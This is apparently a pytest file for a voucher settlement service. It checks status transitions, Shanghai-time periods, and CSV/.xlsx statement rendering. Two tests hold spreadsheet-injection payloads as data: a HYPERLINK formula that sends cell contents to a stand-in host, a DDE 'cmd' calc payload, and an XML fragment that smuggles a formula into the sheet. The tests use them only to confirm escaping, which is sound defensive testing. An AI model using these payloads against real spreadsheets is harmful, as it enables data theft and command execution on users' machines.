"""The settlement's pure rules: the whole transition table, periods counted in Asia/Shanghai,
the period refusals, and the statement as CSV (BOM, Chinese header, Beijing times with their
offset, totals, every minor digit) and as .xlsx (the same rows: amounts as numbers with the
unit's format, times as Beijing date-times, the header frozen, the same bytes for the same lines)."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from services.voucher.errors import InvalidTransition
from services.voucher.money import Unit
from services.voucher.settlement.rules import (
    MAX_PERIOD_DAYS,
    PERIOD_ZONE,
    TRANSITIONS,
    SettlementStatus,
    check_transition,
    period_bounds,
    period_problems,
)
from services.voucher.settlement.statement import (
    HEADER,
    Line,
    digest,
    render_csv,
    render_xlsx,
    statement_title,
)
from tests.exports import xlsx

S = SettlementStatus

#: The lifecycle as the issue and DESIGN §2 describe it, written out independently of the module.
LEGAL = {
    (S.DRAFT, S.SUBMITTED), (S.DRAFT, S.CANCELLED),
    (S.SUBMITTED, S.APPROVED), (S.SUBMITTED, S.DISPUTED), (S.SUBMITTED, S.CANCELLED),
    (S.DISPUTED, S.SUBMITTED),
    (S.APPROVED, S.PAID),
}
FINAL = {S.PAID, S.CANCELLED}


# -- transitions ------------------------------------------------------------------------------


def test_the_table_covers_every_status() -> None:
    assert set(TRANSITIONS) == set(S)
    assert {s.value for s in S} == {"draft", "submitted", "disputed", "approved", "paid", "cancelled"}
    assert {(a, b) for a, targets in TRANSITIONS.items() for b in targets} == LEGAL
    assert {s for s in S if not TRANSITIONS[s]} == FINAL


@pytest.mark.parametrize(("current", "target"), list(itertools.product(S, S)),
                         ids=lambda s: s.value)
def test_every_pair_of_statuses(current: S, target: S) -> None:
    if (current, target) in LEGAL:
        check_transition(current, target)  # no exception
        return
    with pytest.raises(InvalidTransition) as raised:
        check_transition(current, target)
    assert raised.value.code == "invalid_transition"
    assert raised.value.extra["current_status"] == current.value
    assert raised.value.extra["allowed"] == sorted(b.value for a, b in LEGAL if a is current)
    assert current.value in raised.value.detail and target.value in raised.value.detail


def test_nothing_leaves_a_paid_or_cancelled_settlement() -> None:
    for final, target in itertools.product(FINAL, S):
        with pytest.raises(InvalidTransition):
            check_transition(final, target)


# -- periods in Asia/Shanghai -------------------------------------------------------------------


def test_period_zone_is_shanghai() -> None:
    assert PERIOD_ZONE == "Asia/Shanghai"
    assert MAX_PERIOD_DAYS == 366


def test_one_day_is_utc_16_00_to_16_00_the_day_before() -> None:
    start, end = period_bounds(date(2026, 3, 2), date(2026, 3, 2))
    assert start == datetime(2026, 3, 1, 16, 0, tzinfo=UTC)
    assert end == datetime(2026, 3, 2, 16, 0, tzinfo=UTC)
    # returned in UTC, not merely an equal instant in +08:00
    assert start.utcoffset() == timedelta(0) and end.utcoffset() == timedelta(0)
    assert start.tzinfo is UTC and end.tzinfo is UTC


def test_a_month_and_a_year_boundary() -> None:
    assert period_bounds(date(2026, 3, 1), date(2026, 3, 31)) == (
        datetime(2026, 2, 28, 16, 0, tzinfo=UTC), datetime(2026, 3, 31, 16, 0, tzinfo=UTC))
    assert period_bounds(date(2026, 1, 1), date(2026, 12, 31)) == (
        datetime(2025, 12, 31, 16, 0, tzinfo=UTC), datetime(2026, 12, 31, 16, 0, tzinfo=UTC))
    # a leap day, and no daylight-saving time: every day is 24 hours
    start, end = period_bounds(date(2028, 2, 28), date(2028, 3, 1))
    assert (start, end) == (datetime(2028, 2, 27, 16, 0, tzinfo=UTC), datetime(2028, 3, 1, 16, 0, tzinfo=UTC))
    assert end - start == timedelta(days=3)


def test_a_capture_at_16_30_utc_belongs_to_the_next_shanghai_day() -> None:
    at = datetime(2026, 3, 2, 16, 30, tzinfo=UTC)  # 2026-03-03 00:30 in Shanghai
    start, end = period_bounds(date(2026, 3, 2), date(2026, 3, 2))
    assert not start <= at < end
    start, end = period_bounds(date(2026, 3, 3), date(2026, 3, 3))
    assert start <= at < end
    # the edges: 16:00:00 UTC is the next day's first instant, a microsecond before is not
    first = datetime(2026, 3, 3, 16, 0, tzinfo=UTC)
    assert first == end and not start <= first < end
    assert start <= first - timedelta(microseconds=1) < end


def test_another_zone_can_be_asked_for() -> None:
    assert period_bounds(date(2026, 3, 2), date(2026, 3, 2), zone="UTC") == (
        datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 3, tzinfo=UTC))


TODAY = date(2026, 3, 10)


@pytest.mark.parametrize(("first", "last"), [
    (date(2026, 3, 9), date(2026, 3, 9)),       # yesterday alone
    (date(2026, 3, 1), date(2026, 3, 9)),
    (date(2025, 3, 9), date(2026, 3, 9)),       # 366 days inclusive: the most allowed
])
def test_periods_that_can_be_settled(first: date, last: date) -> None:
    assert period_problems(first, last, TODAY) == []


@pytest.mark.parametrize(("first", "last", "fragment"), [
    (date(2026, 3, 10), date(2026, 3, 10), "over"),        # today is not over
    (date(2026, 3, 1), date(2026, 3, 10), "over"),
    (date(2026, 3, 1), date(2026, 4, 1), "over"),          # the future
    (date(2026, 3, 5), date(2026, 3, 4), "before"),        # ends before it starts
    (date(2025, 3, 8), date(2026, 3, 9), "366"),           # 367 days
])
def test_periods_that_cannot(first: date, last: date, fragment: str) -> None:
    problems = period_problems(first, last, TODAY)
    assert len(problems) == 1
    field, message = problems[0]
    assert field == "period_end" and fragment in str(message)


def test_every_problem_is_reported() -> None:
    problems = period_problems(date(2026, 3, 12), date(2026, 3, 11), TODAY)
    assert [f for f, _ in problems] == ["period_end", "period_end"]
    assert "before" in str(problems[0][1]) and "over" in str(problems[1][1])


# -- the statement, as CSV and as .xlsx -----------------------------------------------------------

AT = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
TITLE = "结算单 Settlement 0190 · 2026-03-02...2026-03-02 (Asia/Shanghai)"


def _lines() -> list[Line]:
    return [
        Line("capture", "PO-1", "r-1", None, AT, 300_000),
        Line("capture", "订单,\"甲\"\n第二行", "r-2", None, AT + timedelta(hours=1), 123_456),
        Line("refund", "PO-1", "r-1", "f-1", AT + timedelta(hours=2), -500),
        Line("refund", "PO-9", "r-9", "f-9", AT + timedelta(hours=3), -5),
    ]


def _read(document: bytes) -> list[list[str]]:
    assert document[:3] == b"\xef\xbb\xbf"
    text = document[3:].decode("utf-8")  # strict: the Chinese text is real UTF-8
    assert not text.startswith("\ufeff")  # one BOM, not two
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_cell_of_a_statement_runs_as_a_formula() -> None:
    """Order references are the provider's text: one that starts like a formula is written with
    a leading apostrophe; the negative amounts stay numbers."""
    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/C calc"!A0', "@SUM(A1)", "-2+3"]
    lines = [Line("capture", ref, f"r-{n}", None, AT, 100) for n, ref in enumerate(attacks)]
    lines.append(Line("refund", "PO-1", "r-9", "f-9", AT, -500))
    rows = _read(render_csv("=title", Unit.CNY, lines))
    assert rows[0] == ["'=title"]
    assert [r[2] for r in rows[3:3 + len(attacks)]] == ["'" + a for a in attacks]
    assert rows[3 + len(attacks)][6] == "-5.00" and rows[-1][6] == "-1.00"


def test_bom_first_and_the_csv_module_reads_it_back() -> None:
    document = render_csv(TITLE, Unit.CNY, _lines())
    rows = _read(document)
    assert rows[0] == [TITLE]
    assert rows[1] == ["单位 unit: CNY"]
    assert rows[2] == list(HEADER)
    assert rows[2] == ["序号 line", "类型 kind", "订单号 order_reference", "核销编号 redemption_id",
                       "退款编号 refund_id", "发生时间 occurred_at (Asia/Shanghai)", "金额 amount"]
    # Beijing time, the offset written: the period in the title is Beijing days too
    assert rows[3] == ["1", "核销 capture", "PO-1", "r-1", "", "2026-03-02T09:00:00+08:00", "3000.00"]
    assert rows[4] == ["2", "核销 capture", "订单,\"甲\"\n第二行", "r-2", "", "2026-03-02T10:00:00+08:00", "1234.56"]
    assert rows[5] == ["3", "退款 refund", "PO-1", "r-1", "f-1", "2026-03-02T11:00:00+08:00", "-5.00"]
    assert rows[6] == ["4", "退款 refund", "PO-9", "r-9", "f-9", "2026-03-02T12:00:00+08:00", "-0.05"]
    assert rows[7] == ["合计 total", "", "", "", "", "", "4229.51"]
    assert len(rows) == 8
    assert "合计".encode() in document and "订单号".encode() in document
    assert document.endswith(b"\r\n")


def test_the_total_row_equals_the_sum_of_the_lines() -> None:
    rows = _read(render_csv(TITLE, Unit.CNY, _lines()))
    body, total = rows[3:-1], rows[-1]
    assert total[0] == "合计 total"
    assert sum(Decimal(r[-1]) for r in body) == Decimal(total[-1]) == Decimal("4229.51")
    assert sum(line.amount for line in _lines()) == 422_951


def test_a_negative_total_and_an_empty_statement() -> None:
    negative = _read(render_csv(TITLE, Unit.CNY, [Line("refund", "PO-1", "r", "f", AT, -500)]))
    assert negative[-1][-1] == "-5.00" and negative[-2][-1] == "-5.00"
    empty = _read(render_csv(TITLE, Unit.CNY, []))
    assert empty[2] == list(HEADER) and empty[3] == ["合计 total", "", "", "", "", "", "0.00"]
    assert len(empty) == 4


def test_gpu_hours_have_three_decimals_and_tokens_none() -> None:
    lines = [Line("capture", "PO-1", "r", None, AT, 1_500), Line("refund", "PO-1", "r", "f", AT, -250)]
    rows = _read(render_csv(TITLE, Unit.GPU_HOUR, lines))
    assert rows[1] == ["单位 unit: GPU_HOUR"]
    assert [r[-1] for r in rows[3:]] == ["1.500", "-0.250", "1.250"]
    rows = _read(render_csv(TITLE, Unit.TOKEN, [Line("capture", "PO-1", "r", None, AT, 1_000_000)]))
    assert [r[-1] for r in rows[3:]] == ["1000000", "1000000"]


def test_the_digest_is_the_sha256_of_the_bytes_bom_included() -> None:
    document = render_csv(TITLE, Unit.CNY, _lines())
    assert digest(document) == hashlib.sha256(document).hexdigest()
    assert digest(document) != hashlib.sha256(document[3:]).hexdigest()
    # the same lines render the same bytes; another amount changes the digest
    assert render_csv(TITLE, Unit.CNY, _lines()) == document
    changed = _lines()[:-1] + [Line("refund", "PO-9", "r-9", "f-9", AT + timedelta(hours=3), -6)]
    assert digest(render_csv(TITLE, Unit.CNY, changed)) != digest(document)


def test_a_period_before_2000_is_refused_before_any_date_arithmetic() -> None:
    from datetime import date as _date

    from services.voucher.settlement.rules import period_problems as _problems

    assert [(f, str(m)) for f, m in _problems(_date(1, 1, 1), _date(1, 1, 2), _date(2026, 3, 3))] == [
        ("period_start", "periods start on 2000-01-01 or later")]


def test_a_time_is_written_in_beijing_time_across_midnight() -> None:
    """16:30 UTC on 1 March is 00:30 on 2 March in Beijing: the day the statement's period counts."""
    late = Line("capture", "PO-1", "r", None, datetime(2026, 3, 1, 16, 30, 15, 250000, tzinfo=UTC), 100)
    rows = _read(render_csv(TITLE, Unit.CNY, [late]))
    assert rows[3][5] == "2026-03-02T00:30:15.250000+08:00"
    assert datetime.fromisoformat(rows[3][5]) == late.occurred_at


def _workbook(tmp_path: Path, unit: Unit, lines: list[Line], title: str = TITLE) -> bytes:
    path = tmp_path / f"statement-{len(list(tmp_path.iterdir()))}.xlsx"
    render_xlsx(title, unit, lines, str(path), created=AT, directory=str(tmp_path))
    return path.read_bytes()


def test_the_xlsx_statement_has_the_csv_rows(tmp_path: Path) -> None:
    document = _workbook(tmp_path, Unit.CNY, _lines())
    [sheet] = xlsx.read(document)
    csv_rows = _read(render_csv(TITLE, Unit.CNY, _lines()))
    assert sheet.name == "结算单 statement" and sheet.frozen_rows == 3
    assert len(sheet.widths) == len(HEADER)
    values = sheet.values()
    assert values[0] == [TITLE] and values[1] == ["单位 unit: CNY"] and values[2] == list(HEADER)
    assert len(values) == len(csv_rows) == 8
    for got, want in zip(sheet.rows[3:-1], csv_rows[3:-1], strict=True):
        number, kind, reference, redemption, refund, at, amount = got + [xlsx.Cell(None)] * (7 - len(got))
        assert (str(number.value), kind.value, reference.value, redemption.value, refund.value or "") == tuple(want[:5])
        assert at.value == datetime.fromisoformat(want[5]).replace(tzinfo=None)  # Beijing wall clock
        assert at.number_format == "yyyy-mm-dd hh:mm:ss"
        assert (amount.value, amount.number_format) == (Decimal(want[6]), "#,##0.00")
    total = sheet.rows[-1]
    assert total[0].value == "合计 total" and total[6].value == Decimal("4229.51") == Decimal(csv_rows[-1][6])
    assert not any(c.is_formula for row in sheet.rows for c in row)


def test_the_xlsx_statement_is_the_same_bytes_for_the_same_lines(tmp_path: Path) -> None:
    first = _workbook(tmp_path, Unit.CNY, _lines())
    assert _workbook(tmp_path, Unit.CNY, _lines()) == first
    changed = _lines()[:-1] + [Line("refund", "PO-9", "r-9", "f-9", AT + timedelta(hours=3), -6)]
    assert _workbook(tmp_path, Unit.CNY, changed) != first


def test_the_xlsx_statement_in_gpu_hours_and_tokens_and_empty(tmp_path: Path) -> None:
    lines = [Line("capture", "PO-1", "r", None, AT, 1_500), Line("refund", "PO-1", "r", "f", AT, -250)]
    [sheet] = xlsx.read(_workbook(tmp_path, Unit.GPU_HOUR, lines))
    assert [(r[6].value, r[6].number_format) for r in sheet.rows[3:]] == [
        (Decimal("1.5"), "#,##0.000"), (Decimal("-0.25"), "#,##0.000"), (Decimal("1.25"), "#,##0.000")]
    [sheet] = xlsx.read(_workbook(tmp_path, Unit.TOKEN, [Line("capture", "PO-1", "r", None, AT, 1_000_000)]))
    assert [(r[6].value, r[6].number_format) for r in sheet.rows[3:]] == [
        (Decimal("1000000"), "#,##0"), (Decimal("1000000"), "#,##0")]
    [sheet] = xlsx.read(_workbook(tmp_path, Unit.CNY, []))
    assert len(sheet.rows) == 4 and sheet.rows[3][6].value == Decimal("0")


def test_no_cell_of_the_xlsx_statement_runs_as_a_formula(tmp_path: Path) -> None:
    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', "@SUM(A1)", "-2+3",
               '<r><t>a</t></r></is></c><c r="Z9"><f>1+1</f></c><c t="inlineStr"><is><r><t>b</t></r>']
    lines = [Line("capture", ref, f"r-{n}", None, AT, 100) for n, ref in enumerate(attacks)]
    document = _workbook(tmp_path, Unit.CNY, lines, title="=title")
    [sheet] = xlsx.read(document)
    assert sheet.rows[0][0].value == "=title"
    assert [r[2].value for r in sheet.rows[3:3 + len(attacks)]] == attacks
    assert not any(c.is_formula for row in sheet.rows for c in row)
    assert all("<f>" not in part for part in xlsx.sheet_xml(document))


def test_the_title_names_the_settlement_and_its_beijing_period() -> None:
    assert statement_title("0190", date(2026, 3, 2), date(2026, 3, 2)) == TITLE


def test_an_xlsx_statement_longer_than_a_sheet_goes_on_over_further_sheets(tmp_path: Path) -> None:
    """XlsxWriter drops a cell past a sheet's last row without raising, so a statement longer
    than Excel's limit had lost its last lines and its total (an independent review). With
    the limit at 8 rows (3 of title, unit and header, then 5 lines), 11 lines and the total
    fill three sheets, each headed alike, the lines numbered on and every one present."""
    lines = [Line("capture", f"PO-{n}", f"r-{n}", None, AT + timedelta(minutes=n), 100 * n) for n in range(1, 12)]
    path = tmp_path / "long.xlsx"
    render_xlsx(TITLE, Unit.CNY, lines, str(path), created=AT, directory=str(tmp_path), sheet_rows=8)
    sheets = xlsx.read(path.read_bytes())
    assert [s.name for s in sheets] == ["结算单 statement", "结算单 statement (2)", "结算单 statement (3)"]
    for sheet in sheets:
        assert sheet.values()[:3] == [[TITLE], ["单位 unit: CNY"], list(HEADER)] and sheet.frozen_rows == 3
        assert len(sheet.rows) <= 8
    body = [row for sheet in sheets for row in sheet.rows[3:]]
    assert [int(row[0].value) for row in body[:-1]] == list(range(1, 12))
    assert [row[2].value for row in body[:-1]] == [f"PO-{n}" for n in range(1, 12)]
    assert body[-1][0].value == "合计 total" and body[-1][6].value == Decimal("66.00")
    # exactly full: the total row opens a sheet of its own
    exact = tmp_path / "exact.xlsx"
    render_xlsx(TITLE, Unit.CNY, lines[:5], str(exact), created=AT, directory=str(tmp_path), sheet_rows=8)
    first, second = xlsx.read(exact.read_bytes())
    assert len(first.rows) == 8 and second.rows[3][0].value == "合计 total"
